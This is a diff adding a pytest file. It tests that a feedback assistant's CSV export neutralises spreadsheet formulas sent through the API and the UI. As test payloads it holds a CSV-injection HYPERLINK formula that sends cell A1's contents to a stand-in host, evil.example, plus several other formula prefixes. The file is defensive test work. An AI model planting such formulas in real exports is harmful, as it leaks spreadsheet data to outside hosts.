@@ -1,0 +1,74 @@
+"""Feedback against one real `python app.py` process (loopback, temp index and feedback database): what the API
+and the UI store, and what `python -m assistant feedback export` makes of it in a separate process."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import subprocess
+import sys
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+from helpers import copy_index, gradio_call
+
+from assistant.config import PROJECT_ROOT
+from assistant.load import server_process
+from assistant.spreadsheet import FORMULA_START
+
+pytestmark = pytest.mark.reliability
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture(scope="module")
+def served(bot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:  # noqa: ANN001
+    """One app.py process on a private copy of the index; its URL and its feedback database."""
+    tmp = tmp_path_factory.mktemp("fb-server")
+    db = tmp / "fb.sqlite3"
+    with server_process(copy_index(bot, tmp / "idx"), 1, ASSISTANT_FEEDBACK_DB=str(db)) as (url, _pid):
+        yield url, db
+
+
+def export(db: Path, out: Path, *args: str) -> tuple[subprocess.CompletedProcess, list[dict[str, str]]]:
+    """`python -m assistant feedback export -o OUT` on a database, in its own process; the run and its rows."""
+    env = dict(os.environ, ASSISTANT_FEEDBACK_DB=str(db))
+    done = subprocess.run([sys.executable, "-m", "assistant", "feedback", "export", "-o", str(out), *args], env=env,
+                          cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
+    if not out.exists():
+        return done, []
+    with out.open(encoding="utf-8-sig", newline="") as f:  # newline="": a cell's own CR stays as it was
+        return done, list(csv.DictReader(f))
+
+
+def rate_in_ui(client: httpx.Client, url: str, question: str, *ratings: dict) -> str:
+    """Ask in a new UI session, then send each rating of that turn as ui.js does; the session hash."""
+    session = uuid.uuid4().hex[:12]
+    assert gradio_call(client, url, "respond", [question, None], session)["success"]
+    for rating in ratings:
+        assert gradio_call(client, url, "rate", [json.dumps(rating), None], session)["success"]
+    return session
+
+
+def test_formulas_from_the_api_and_the_ui_are_exported_as_text(served, tmp_path: Path) -> None:  # noqa: ANN001
+    url, db = served
+    with httpx.Client(timeout=60) as c:
+        ids = []
+        for f in FORMULAS:
+            r = c.post(f"{url}/api/feedback", json={"question": f, "answer": f, "rating": "down", "kind": f[:40],
+                                                    "reason": f})
+            assert r.status_code == 200, r.text
+            ids.append(str(r.json()["id"]))
+        rate_in_ui(c, url, HYPERLINK, {"turn": 1, "rating": "down", "reason": "-1+1"})
+    done, rows = export(db, tmp_path / "out.csv")
+    assert done.returncode == 0, done.stderr
+    mine = {r["id"]: r for r in rows}
+    for n, f in zip(ids, FORMULAS, strict=True):
+        assert [mine[n][k] for k in ("質問", "回答", "理由")] == ["'" + f] * 3 and mine[n]["回答の種類"] == "'" + f[:40]
+    ui = next(r for r in rows if r["送信元"] == "ui" and r["理由"] == "'-1+1")
+    assert ui["質問"] == "'" + HYPERLINK and ui["回答"]  # the UI's own answer to that question
+    assert not [v for r in rows for v in r.values() if v.startswith(FORMULA_START)]
